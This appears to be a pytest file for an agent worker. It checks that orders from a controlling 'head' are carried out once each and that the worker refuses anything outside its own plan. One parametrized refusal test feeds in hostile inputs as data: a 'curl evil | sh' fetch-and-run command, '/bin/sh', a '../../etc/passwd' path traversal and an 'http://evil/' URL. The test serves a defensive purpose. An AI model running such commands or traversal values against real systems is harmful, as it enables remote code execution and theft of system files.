"""Orders over the real port: a worker runs only what its own plan has."""

from __future__ import annotations

import anyio
import pytest

from agent.decisions.shared import LogLine, OrderKind
from agent.decisions.worker import worker_state as w
from support.free_ports import free_port
from support.heads import RETRIEVER
from support.linked_worker import SECONDS, LinkedWorker, head_at


async def trace(port: int, orders: list[tuple[OrderKind, str]]) -> LinkedWorker:
    """Give a worker orders one after another, and wait for each."""
    one = LinkedWorker(port)
    async with head_at(port) as reports, anyio.create_task_group() as tasks:
        tasks.start_soon(one.link.run)
        with anyio.fail_after(SECONDS):
            while not one.state.last_reply_at:
                await one.changed.wait()
        for number, (kind, name) in enumerate(orders, 1):
            reports.order("agent1", kind, name)
            await one.until_obeyed(number)
        tasks.cancel_scope.cancel()
    return one


def test_orders_arrive_at_once_and_are_carried_out_once() -> None:
    """A held report returns an order at once; the next reply does not repeat it."""
    orders = [
        (OrderKind.START_SERVICE, RETRIEVER),
        (OrderKind.RUN_STEP, "AGENT_PREPARE_EACH"),
        (OrderKind.SEND_LOG, "ray"),
    ]
    one = anyio.run(trace, free_port(), orders)
    assert [action for action in one.actions if not isinstance(action, LogLine)] == [
        w.StartOwnService(RETRIEVER, 1),
        w.RunOwnStep("AGENT_PREPARE_EACH"),
        w.SendLog("ray"),
    ]


@pytest.mark.parametrize(
    "name",
    ["curl evil | sh", "/bin/sh", "../../etc/passwd", "http://evil/", "", RETRIEVER.upper()],
)
def test_whoever_answers_as_the_head_can_run_nothing_else(name: str) -> None:
    """A worker runs nothing that is not in its own plan."""
    orders = [(OrderKind.START_SERVICE, name), (OrderKind.RUN_STEP, name)]
    one = anyio.run(trace, free_port(), orders)
    assert {type(action) for action in one.actions} == {LogLine}
    said = " ".join(action.sentence for action in one.actions if isinstance(action, LogLine))
    assert said.count("an order of the head's is refused") == 2
